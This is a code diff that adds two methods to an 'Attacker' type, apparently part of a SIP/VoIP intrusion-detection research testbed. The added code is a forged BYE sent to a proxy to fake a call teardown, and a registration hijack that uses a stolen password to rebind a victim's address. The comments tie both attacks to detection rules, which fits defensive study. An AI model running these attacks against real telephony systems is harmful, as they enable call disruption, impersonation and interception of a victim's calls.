@@ -51,6 +51,83 @@ func (a *Attacker) ForgedBye(d *ObservedDialog, towardCaller bool) error {
 	return a.SendSpoofed(spoof, dst, bye.Marshal())
 }
 
+// ForgedByeToProxy sends a BYE carrying a live dialog's identifiers to
+// the proxy with an unroutable Request-URI. The proxy rejects it with 404
+// and never forwards it, so the endpoints keep streaming — only a
+// signaling tap at the proxy edge witnesses a teardown for the call,
+// while a media tap keeps seeing the session's RTP. Neither vantage alone
+// holds both halves of the contradiction (the cross-point
+// bye-teardown-split rule does). The datagram leaves from the attacker's
+// own address: the proxy answers requests regardless of source, and a
+// third-party source keeps the frame off any tap filtered to the call's
+// endpoints.
+func (a *Attacker) ForgedByeToProxy(d *ObservedDialog, proxyAddr netip.AddrPort) error {
+	if !d.Confirmed {
+		return fmt.Errorf("attack: dialog %s not confirmed", d.CallID)
+	}
+	from := sip.Address{URI: d.CallerURI}.WithTag(d.CallerTag)
+	to := sip.Address{URI: d.CalleeURI}.WithTag(d.CalleeTag)
+	bye := sip.NewRequest(sip.RequestSpec{
+		Method:     sip.MethodBye,
+		RequestURI: sip.URI{User: "ghost", Host: proxyAddr.Addr().String(), Port: proxyAddr.Port()}.String(),
+		From:       from,
+		To:         to,
+		CallID:     d.CallID,
+		CSeq:       sip.CSeq{Seq: d.LastCSeq + 10, Method: sip.MethodBye},
+		Via: sip.Via{Transport: "UDP",
+			SentBy: netip.AddrPortFrom(a.host.IP(), a.sipPort).String(),
+			Params: map[string]string{"branch": a.idgen.Branch()}},
+	})
+	return a.Send(a.sipPort, proxyAddr, bye.Marshal())
+}
+
+// HijackRegister mounts a registration hijack with stolen credentials:
+// the attacker answers the registrar's challenge with the victim's real
+// password, rebinding the victim's AOR to the attacker's own contact.
+// From the registrar's side this is a perfectly valid re-registration —
+// only correlating WHERE the two successful registrations came from
+// exposes the race.
+func (a *Attacker) HijackRegister(proxyAddr netip.AddrPort, aor sip.URI, password string) {
+	callID := a.idgen.CallID(a.host.IP().String())
+	me := sip.Address{URI: aor}
+	contact := sip.Address{URI: sip.URI{User: aor.User, Host: a.host.IP().String(), Port: a.sipPort}}
+	uri := sip.URI{Host: proxyAddr.Addr().String(), Port: proxyAddr.Port()}.String()
+	send := func(cseq uint32, authz string) {
+		req := sip.NewRequest(sip.RequestSpec{
+			Method:     sip.MethodRegister,
+			RequestURI: uri,
+			From:       me.WithTag(a.idgen.Tag()),
+			To:         me,
+			CallID:     callID,
+			CSeq:       sip.CSeq{Seq: cseq, Method: sip.MethodRegister},
+			Via: sip.Via{Transport: "UDP", SentBy: fmt.Sprintf("%s:%d", a.host.IP(), a.sipPort),
+				Params: map[string]string{"branch": a.idgen.Branch()}},
+			Contact: &contact,
+		})
+		if authz != "" {
+			req.Headers.Add(sip.HdrAuthorization, authz)
+		}
+		_ = a.Send(a.sipPort, proxyAddr, req.Marshal())
+	}
+	answered := false
+	a.onResponse = func(_ netip.AddrPort, m *sip.Message) {
+		if m.StatusCode != sip.StatusUnauthorized || answered {
+			return
+		}
+		chal, err := sip.ParseChallenge(m.Headers.Get(sip.HdrWWWAuth))
+		if err != nil {
+			return
+		}
+		answered = true
+		creds := sip.Credentials{
+			Username: aor.User, Realm: chal.Realm, Nonce: chal.Nonce, URI: uri,
+			Response: sip.DigestResponse(aor.User, chal.Realm, password, chal.Nonce, sip.MethodRegister, uri),
+		}
+		send(2, creds.String())
+	}
+	send(1, "")
+}
+
 // FakeIM sends the Figure 6 attack: an instant message delivered straight
 // to the victim with a forged From header impersonating fromURI. Unlike
 // legitimate IMs, which arrive relayed by the proxy, this one carries the
